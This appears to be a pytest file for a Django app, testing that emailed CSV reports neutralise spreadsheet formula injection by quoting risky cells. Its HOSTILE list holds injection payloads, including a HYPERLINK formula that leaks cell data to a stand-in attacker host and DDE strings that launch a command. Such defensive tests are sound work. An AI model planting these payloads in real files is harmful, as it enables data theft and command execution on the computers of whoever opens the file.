"""CSV formula injection: no cell of a report attachment can run as a spreadsheet formula
(issue 22, 1 D)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from executions import engine
from executions.steps.generate_report.report import Report
from tests.customers.factories import CustomerFactory, OrderFactory

pytestmark = pytest.mark.django_db

# The attack run's names, and the rest of OWASP's list of formula starts.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klikk her")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def attachment_rows(message: Any) -> list[list[str]]:
    (part,) = [p for p in message.message().walk() if p.get_filename()]
    raw = part.get_payload(decode=True)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def report_execution(make_workflow: Any, start_execution: Any, kind: str) -> Any:
    workflow = make_workflow(
        [
            {
                "step_order": 1,
                "step_type": "generate_report",
                "action_config": {"report": kind, "send_to": ["sjef@example.com"]},
            }
        ]
    )
    return start_execution(workflow)


def test_orders_missing_report_neutralises_every_formula_in_names_and_phones(
    clock, queue, mail_backend, mailoutbox, make_workflow, start_execution
) -> None:
    for number, name in enumerate(HOSTILE):
        CustomerFactory(name=name, email=f"k{number}@example.com", phone="=1+2")
    CustomerFactory(name="Kafé; Solsiden, AS", email="sol@example.com", phone="+47 22 33 44 55")
    execution = report_execution(make_workflow, start_execution, "orders_missing")
    engine.run_execution(execution.pk)

    engine.run_step_work(execution.pk, 1, "generate_report", None)

    (message,) = mailoutbox
    header, *rows = attachment_rows(message)
    by_email = {row[1]: row for row in rows}
    for number, name in enumerate(HOSTILE):
        assert by_email[f"k{number}@example.com"] == [f"'{name}", f"k{number}@example.com", "'=1+2"]
    # A separator inside a value stays inside its cell; a phone number is text, neutralised.
    assert by_email["sol@example.com"] == [
        "Kafé; Solsiden, AS",
        "sol@example.com",
        "'+47 22 33 44 55",
    ]
    for row in [header, *rows]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_weekly_orders_report_neutralises_product_cells_but_keeps_numbers(
    clock, queue, mail_backend, mailoutbox, make_workflow, start_execution
) -> None:
    OrderFactory(
        customer=CustomerFactory(name="@Kunde"),
        lines=[{"sku": "-SKU", "name": '=HYPERLINK("x")', "quantity": -2}],
    )
    execution = report_execution(make_workflow, start_execution, "weekly_orders")
    engine.run_execution(execution.pk)

    engine.run_step_work(execution.pk, 1, "generate_report", None)

    (message,) = mailoutbox
    _header, row = attachment_rows(message)
    # The quantity is a number, not text: written as it is, so it stays a number.
    assert row[2:] == ["'@Kunde", "'-SKU", '\'=HYPERLINK("x")', "-2"]


def test_report_csv_quotes_every_cell() -> None:
    report = Report(title="t", columns=["Kunde", "Antall"], rows=[["Kafé", 3]])
    assert report.csv_bytes() == '\ufeff"Kunde";"Antall"\r\n"Kafé";"3"\r\n'.encode()
